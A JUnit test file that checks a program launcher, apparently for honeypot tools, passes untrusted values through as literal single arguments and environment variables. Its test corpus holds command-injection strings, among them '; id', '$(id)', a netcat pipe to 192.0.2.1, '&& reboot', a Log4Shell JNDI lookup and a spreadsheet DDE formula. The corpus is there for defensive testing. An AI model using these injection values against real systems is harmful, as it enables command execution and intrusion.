package org.sundew.program;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import java.nio.charset.Charset;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What a stranger might say, handed to a program that tells, in Python and in hex, what it got. */
class HostileCorpusTest {
    private static final Path PYTHON = Path.of("/usr/bin/python3");
    private static final String WITNESS = """
            import os, sys
            for word in sys.argv[1:]:
                print('arg', os.fsencode(word).hex() or '-')
            for name, value in os.environb.items():
                print('env', name.hex(), value.hex() or '-')
            """;

    @TempDir
    private Path folder;

    private final Programs programs = new Programs();

    record Seen(List<String> arguments, Map<String, String> environment) {}

    @AfterEach
    void stop() {
        programs.stop();
    }

    static Stream<String> corpus() {
        return Stream.of(
                "",
                "; id",
                "$(id)",
                "`id`",
                "| nc 192.0.2.1 1",
                "&& reboot",
                "> /tmp/x",
                "a b\tc",
                "\"quoted\"",
                "'single'",
                "back\\slash\\",
                "*?[a-z]~",
                "two\nlines\r\n",
                "nul\0inside",
                "\u001b]0;title\u0007",
                "$ipsrc ${ipsrc} $dport",
                "-rf",
                "--help",
                "%n%s%x",
                "${jndi:ldap://192.0.2.1/a}",
                "\u202egpj.exe",
                "=cmd|' /C calc'!A0",
                "x".repeat(1_000_000));
    }

    @ParameterizedTest
    @MethodSource("corpus")
    void arrivesAsOneWordAndOneVariable(String hostile) throws Exception {
        Variables variables = Variables.NONE.and("ipsrc", "192.0.2.7").and("appid", hostile, "VISITOR_DOMAIN");

        Seen seen = seenWith("before $appid x$appid \"$appid\" after", variables);

        String plain = PlainText.of(hostile);
        String word = plain.startsWith("-") ? "_" + plain.substring(1) : plain;
        assertThat(seen.arguments()).containsExactly("before", word, "x" + plain, word, "after");
        assertThat(seen.environment()).containsEntry("VISITOR_DOMAIN", plain);
    }

    @Test
    void theEnvironmentIsCleanButForWhatIsTold() throws Exception {
        Seen seen = seenWith("", Variables.NONE.and("", "80", "KFSENSOR_PORT"));

        assertThat(seen.environment())
                .containsOnlyKeys("PATH", "LANG", "HOME", "HONEYD_HOME", "KFSENSOR_PORT", "KFSENSOR_RUN")
                .containsEntry("HOME", folder.toString());
    }

    private Seen seenWith(String arguments, Variables variables) throws Exception {
        assumeThat(PYTHON).as("python3 is not installed").exists();
        assumeThat(Charset.defaultCharset())
                .as("a locale that can carry the corpus")
                .isEqualTo(UTF_8);
        Path witness = Files.writeString(folder.resolve("witness.py"), WITNESS);
        Program program = Program.of(
                PYTHON.toString(),
                "-I \"" + witness + "\" " + arguments,
                folder.toString(),
                new Limits(10, 64, 0, true));
        Running running = programs.start(program, variables, false);
        String told = new String(running.output().readAllBytes(), UTF_8);
        assertThat(running.await(Duration.ofSeconds(30))).isTrue();
        running.end();
        return parse(told);
    }

    private static Seen parse(String told) {
        List<String> arguments = new ArrayList<>();
        Map<String, String> environment = new LinkedHashMap<>();
        for (String line : told.lines().toList()) {
            String[] parts = line.split(" ", -1);
            if (parts[0].equals("arg")) {
                arguments.add(text(parts[1]));
            } else {
                environment.put(text(parts[1]), text(parts[2]));
            }
        }
        environment.remove("LC_CTYPE"); // Python's own
        return new Seen(arguments, environment);
    }

    private static String text(String hex) {
        return hex.equals("-") ? "" : new String(HexFormat.of().parseHex(hex), UTF_8);
    }
}
